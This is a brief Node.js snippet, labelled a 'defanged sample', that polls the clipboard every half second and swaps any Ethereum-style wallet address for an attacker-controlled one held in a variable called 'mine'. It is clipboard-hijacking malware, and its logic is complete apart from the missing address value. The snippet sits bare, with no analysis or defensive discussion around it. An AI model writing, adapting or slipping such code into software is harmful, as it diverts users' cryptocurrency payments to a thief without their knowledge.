// defanged sample
const clipboard = require('clipboardy');
setInterval(() => {
  const t = clipboard.readSync();
  if (/^0x[a-fA-F0-9]{40}$/.test(t)) clipboard.writeSync(mine);
}, 500);
